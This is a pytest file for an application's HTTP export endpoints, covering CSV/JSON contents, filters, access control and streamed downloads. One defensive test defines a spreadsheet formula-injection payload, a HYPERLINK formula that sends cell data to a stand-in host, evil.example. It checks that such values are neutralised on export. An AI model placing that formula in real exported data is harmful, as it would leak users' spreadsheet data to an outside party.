"""Exports over HTTP: what is in them, what spreadsheets make of it, and that they never lie whole in memory."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest

from api.app import create_app
from domain.signin import SignIn
from storage.contacts import Contact
from storage.database import Database
from tests.api.test_files import token
from tests.conftest import Ask, person
from tools import download
from tools.call import Call
from tools.contacts import ContactCard
from tools.download import AT_ONCE, Download, columns
from tools.perform import Desk, perform, surroundings

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def http(desk: Desk, signin: SignIn) -> AsyncIterator[httpx.AsyncClient]:
    """Dana at the application."""
    transport = httpx.ASGITransport(create_app(desk, signin))
    headers = await token(signin, "dana")
    async with httpx.AsyncClient(transport=transport, base_url="http://here", headers=headers) as made:
        yield made


def rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


async def test_contacts_as_csv_have_a_column_for_every_field_of_the_card(http: httpx.AsyncClient) -> None:
    response = await http.get("/api/export/contacts")
    assert response.headers["content-disposition"] == 'attachment; filename="contacts-2026-03-10.csv"'
    table = rows(response)
    assert (len(table), list(table[0])) == (20, columns(ContactCard))
    maria = next(each for each in table if each["id"] == "maria-garcia")
    assert (maria["phone"], maria["tags"], maria["lat"], maria["company"]) == ("+17205550204", "VIP", "39.7299", "")


@pytest.mark.parametrize("asked", [{"params": {"format": "json"}}, {"headers": {"Accept": "application/json"}}])
async def test_json_is_the_cards_as_a_list_shows_them(http: httpx.AsyncClient, asked: dict[str, Any]) -> None:
    exported = (await http.get("/api/export/jobs", **asked)).json()
    listed = (await http.get("/api/jobs", params={"limit": 200})).json()["items"]
    assert sorted(exported, key=lambda job: job["id"]) == sorted(listed, key=lambda job: job["id"])


async def test_what_is_exported_is_narrowed_like_its_list(http: httpx.AsyncClient) -> None:
    assert {each["tags"] for each in rows(await http.get("/api/export/contacts?tags=Commercial"))} == {"Commercial"}
    done = rows(await http.get("/api/export/jobs", params={"status": "completed", "dateStart": "2026-03-03"}))
    assert [each["number"] for each in done] == ["1041"]
    assert {each["status"] for each in rows(await http.get("/api/export/invoices?status=unpaid"))} <= {
        "sent",
        "overdue",
    }
    assert (await http.get("/api/export/contacts?format=json&status=inactive")).json()[0]["id"] == "walter-krause"
    assert (await http.get("/api/export/contacts?format=json&search=nobody")).json() == []


@pytest.mark.parametrize("wanted", ["open=true", "open=false", "assigned=false", "late=true", "late=false&open=true"])
async def test_jobs_are_narrowed_by_all_that_narrows_their_list(http: httpx.AsyncClient, wanted: str) -> None:
    await _as_its_list(http, "jobs", wanted)


@pytest.mark.parametrize("wanted", ["above=1000", "above=300&status=overdue", "contactId=bob-johnson"])
async def test_invoices_are_narrowed_by_all_that_narrows_their_list(http: httpx.AsyncClient, wanted: str) -> None:
    await _as_its_list(http, "invoices", wanted)


async def _as_its_list(http: httpx.AsyncClient, noun: str, wanted: str) -> None:
    listed = (await http.get(f"/api/{noun}?limit=200&{wanted}")).json()["items"]
    exported = rows(await http.get(f"/api/export/{noun}?{wanted}"))
    everything = (await http.get(f"/api/{noun}")).json()["count"]
    assert {each["id"] for each in exported} == {each["id"] for each in listed}
    assert 0 < len(exported) == len(listed) < everything


async def test_no_cell_is_a_formula(http: httpx.AsyncClient, ask: Ask) -> None:
    await ask("create_contact", name=ATTACK, company="@SUM(1+1)", nickname="-2+3", address="\tcmd", city="+1+1")
    table = rows(await http.get("/api/export/contacts"))
    bad = next(each for each in table if ATTACK in each["name"])
    assert [bad[name] for name in ("name", "company", "nickname", "city")] == [
        f"'{ATTACK}",
        "'@SUM(1+1)",
        "'-2+3",
        "'+1+1",
    ]
    assert {each["phone"][:2] for each in table if each["phone"]} == {"+1"}
    written = (await http.get("/api/export/contacts?format=json")).json()
    assert ATTACK in {each["name"] for each in written}


async def test_excel_is_told_that_it_is_utf_8(http: httpx.AsyncClient, ask: Ask) -> None:
    await ask("create_contact", name="Señora Núñez")
    marked = await http.get("/api/export/contacts?format=excel")
    assert marked.content.startswith("\ufeffid,".encode())
    assert "Señora Núñez" in marked.text


async def test_only_the_office_takes_everything_out(http: httpx.AsyncClient, signin: SignIn) -> None:
    for person_id in ("mike-a", "luis"):
        refused = await http.get("/api/export/contacts", headers=await token(signin, person_id))
        assert (refused.status_code, refused.headers["content-type"]) == (403, "application/problem+json")
    theirs = await http.get("/api/export/contacts", headers=await token(signin, "lk-nora", "lakeshore"))
    assert [each["id"] for each in rows(theirs)] == ["lk-john-smith"]


@pytest.mark.both_engines
async def test_a_long_file_is_read_a_few_rows_at_a_time(desk: Desk, database: Database) -> None:
    async with database.transaction("ridgeline") as session:
        session.add_all([Contact(name=f"Number {number}") for number in range(2 * AT_ONCE)])
    call = Call("export_contacts", {"format": "json"}, person("dana"))
    file = (await perform(desk, call)).value
    assert (isinstance(file, Download), file.count) == (True, 2 * AT_ONCE + 20)
    open_now, pieces, ids = 0, [], set[str]()

    @asynccontextmanager
    async def reading() -> AsyncIterator[Any]:
        nonlocal open_now
        open_now += 1
        async with surroundings(desk, call, write=False) as ctx:
            yield ctx
        open_now -= 1

    async for piece in file.pieces(reading):
        assert open_now == 0, "nothing is held while a slow reader takes a piece"
        pieces.append(piece)
        if len(pieces) == 2:  # somebody writes between two pieces, and is not kept waiting
            async with database.transaction("ridgeline") as session:
                session.add(Contact(id="zzz", name="Last of all"))
    ids = {each["id"] for each in json.loads(b"".join(pieces))}
    assert len(ids) == 2 * AT_ONCE + 21
    assert max(piece.count(b'"id"') for piece in pieces) == AT_ONCE


async def test_by_voice_it_is_said_where_the_file_is(desk: Desk, http: httpx.AsyncClient) -> None:
    call = Call("export_contacts", {"status": "lead", "tags": ["tag-vip"]}, person("dana"), channel="voice")
    made = (await perform(desk, call)).value
    assert made.spoken(desk.clock()) == "0 contacts are ready to download as contacts-2026-03-10.csv."
    fetched = await http.get(made.url)
    assert (fetched.status_code, fetched.text) == (200, download.MARK + ",".join(columns(ContactCard)) + "\r\n")
